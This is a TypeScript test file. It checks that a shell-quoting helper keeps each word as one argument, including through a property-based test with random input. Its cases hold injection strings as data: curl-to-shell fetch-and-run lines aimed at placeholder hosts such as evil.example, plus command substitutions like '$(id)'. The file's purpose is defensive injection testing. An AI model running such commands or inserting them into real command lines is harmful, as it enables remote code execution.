import { execFileSync } from 'node:child_process';
import { array, assert, property, string } from 'fast-check';
import { expect, test } from 'vitest';
import { commandLine } from '../../../functions/core/report/shell.ts';

/** The arguments that a shell makes of a command line whose first word is `print`. */
function argumentsOf(line: string): readonly string[] {
  const print = String.raw`print() { for one in "$@"; do printf '%s\0' "$one"; done; }`;
  const printed = execFileSync('sh', ['-c', `${print}; ${line}`], { encoding: 'utf8' });
  return printed.split('\0').slice(0, -1);
}

test.each([
  'x;curl evil|sh',
  'x;curl evil.example|sh;#',
  '$(id)',
  '`id`',
  '$HOME',
  "it's",
  `'"'"'`,
  'a b\nc',
  String.raw`back\slash`,
  '*',
  '~',
  '!!',
  '{a,b}',
  '<previous>',
  '&&',
  '',
  '-x',
  'arn:aws:secretsmanager:eu-west-1:111122223333:secret:rds!db-a1B2c3',
])('%j stays one argument', (word) => {
  expect(argumentsOf(commandLine(['print', word, 'end']))).toEqual([word, 'end']);
});

test('words without special characters are not quoted', () => {
  expect(commandLine(['aws', '--name=/app/key:3', 'a_b.c@d+e%f,g'])).toBe(
    'aws --name=/app/key:3 a_b.c@d+e%f,g',
  );
});

test('whatever a word holds, it stays one argument', () => {
  const word = string({ unit: 'binary' }).filter((one) => !one.includes('\0'));
  assert(
    property(array(word, { maxLength: 5 }), (words) => {
      expect(argumentsOf(commandLine(['print', ...words]))).toEqual(words);
    }),
    { numRuns: 60 },
  );
});
